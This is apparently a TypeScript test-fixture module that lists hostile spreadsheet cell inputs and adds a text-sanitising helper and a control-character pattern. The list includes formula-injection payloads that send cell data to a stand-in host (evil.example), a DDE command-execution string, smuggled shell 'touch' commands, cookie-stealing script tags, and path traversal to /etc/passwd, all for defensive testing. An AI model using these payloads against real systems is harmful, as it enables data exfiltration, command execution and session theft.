/** What people, and people who mean harm, write into the cells of a sheet. `marker`: a file that a shell would make. */
export function hostileCells(marker: string): string[] {
	return [
		'=HYPERLINK("http://evil.example/?"&A1,"click")',
		'=IMPORTXML("http://evil.example/","//a")',
		"+1+cmd|' /C calc'!A0",
		'-2+3',
		'@SUM(1+1)*cmd|x<y>',
		'\t=1+1',
		"'; drop table events; --",
		`$(touch ${marker}) \`touch ${marker}\` | touch ${marker}; touch ${marker} & \n touch ${marker}`,
		'<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
		'"><svg onload="alert(1)"> \' onmouseover=\'x',
		'a\0b\u0007c\u001b[31md\u001b]0;owned\u0007e\u009b2Jf\u007f',
		'\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e',
		' \u200b\u2060\ufeff\u00ad ',
		`half a pair \ud800 and \udfff`,
		'👩‍👩‍👧‍👦'.repeat(60),
		`Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d ${'\u0301'.repeat(300)}`,
		'../../../../etc/passwd',
		'..\\..\\CON',
		'CON',
		'.hidden',
		'-rf / --output=x',
		'   leading and trailing.   ',
		'ö'.repeat(200),
		'one\r\ntwo\nthree\rfour\u2028five',
		"file '/etc/passwd'\nffconcat version 1.0\n;FFMETADATA1\n[CHAPTER]\ntitle=x#;\\",
		"%03d %s %n drawtext=text='%{eif\\:1\\:d}':x=[in],[out];",
		`$\{HOME} {title} {{title}} <%= title %> #{title} $title`,
		'x'.repeat(50_000),
	];
}

/** As a cell keeps a text: no NUL, no half of a surrogate pair. */
export function kept(text: string): string {
	return text.replaceAll('\0', '').toWellFormed();
}

/** Whether text reached a terminal, a page or a file name with what such a place would act on. */
export const CONTROL = /[\p{Cc}\u2028-\u202e\u2066-\u2069]/u;
